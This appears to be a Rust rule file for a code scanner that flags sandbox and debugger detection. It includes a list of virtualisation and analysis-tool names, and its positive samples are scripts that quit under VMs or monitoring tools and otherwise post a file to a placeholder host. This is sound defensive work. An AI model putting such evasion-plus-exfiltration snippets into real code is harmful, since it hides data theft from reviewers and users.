//! `execution-anti-analysis`: code looks whether it is watched before it acts.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command;
use crate::scan::operation::Act;
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "execution-anti-analysis",
    title: "Looks whether it runs in a sandbox or under a debugger",
    severity: Severity::Warning,
    confidence: Confidence::Medium,
    why: "Code that behaves when it is watched is made to pass reviews that run it.",
    fix: "Remove the check; do the same everywhere.",
    references: &["ATT&CK T1497", "ATT&CK T1622"],
    hits: &[
        Sample::File(
            "scripts/a.py",
            "import os, subprocess, requests\nif any(x in os.uname().release for x in ('vmware', 'virtualbox', 'qemu')):\n    raise SystemExit\nrequests.post('https://collect.example.com', data=open('notes.txt').read())\n",
        ),
        Sample::File(
            "a.sh",
            "for v in vmware virtualbox qemu; do grep -qi $v /sys/class/dmi/id/product_name && exit; done\nsystemd-detect-virt --quiet && exit\ncurl -d @notes.txt https://collect.example.com\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const os = require('os');\nconst bad = ['sandbox', 'cuckoo', 'wireshark'];\nif (bad.some((b) => os.hostname().includes(b))) process.exit();\nfetch('https://collect.example.com', { method: 'POST', body: process.argv[2] });\n",
        ),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "import os, requests\nif os.environ.get('CI'):\n    raise SystemExit\nrequests.get('https://api.example.com')\n",
        ),
        Sample::File(
            "scripts/a.py",
            "DRIVERS = ['qemu', 'virtualbox', 'vmware']\nprint(DRIVERS)\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const kinds = ['sandbox', 'production'];\nfetch('https://api.example.com');\n",
        ),
        Sample::File(
            "a.sh",
            "qemu-system-x86_64 -m 1G disk.img\ncurl https://api.example.com\n",
        ),
    ],
    check: Check::Unit(check),
};

/// Names that only a check for being watched gathers.
const WATCHERS: &[&str] = &[
    "vmware",
    "virtualbox",
    "vboxguest",
    "vboxservice",
    "vbox",
    "qemu",
    "xenservice",
    "parallels",
    "hyper-v",
    "sandboxie",
    "cuckoo",
    "sandbox",
    "wireshark",
    "procmon",
    "ollydbg",
    "x64dbg",
    "ida64",
    "fiddler",
    "joebox",
    "malwarebytes",
    "anyrun",
    "isdebuggerpresent",
    "vmtoolsd",
    "virustotal",
    "honeypot",
];

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    let acts = unit
        .lowered
        .operations
        .iter()
        .any(|operation| match &operation.act {
            Act::Contact {
                local: false,
                payload,
                ..
            } => !payload.origins.is_constant(),
            Act::Evaluate { code } => !code.origins.is_constant(),
            Act::Inject => true,
            _ => false,
        });
    if !acts {
        return;
    }
    let asks = command::all(unit).find(|command| {
        command.is(&["systemd-detect-virt", "virt-what"])
            || command.is(&["dmidecode", "wmic", "system_profiler", "ioreg"])
                && watchers(command.line) > 0
    });
    let mut seen = 0;
    let mut first = None;
    for literal in &unit.lowered.literals {
        // Sentences name products for other reasons.
        if literal.value.len() <= 24 {
            let found = watchers(&literal.value);
            if found > 0 {
                seen += found;
                first = first.or(Some(literal.span));
            }
        }
    }
    if let Some(command) = asks {
        reporter.raise(command.span);
    } else if let Some(span) = first
        && seen >= 3
    {
        reporter.raise(span).severity(Severity::Error);
    }
}

fn watchers(text: &str) -> usize {
    let text = text.to_ascii_lowercase();
    usize::from(WATCHERS.iter().any(|name| text.contains(name)))
}
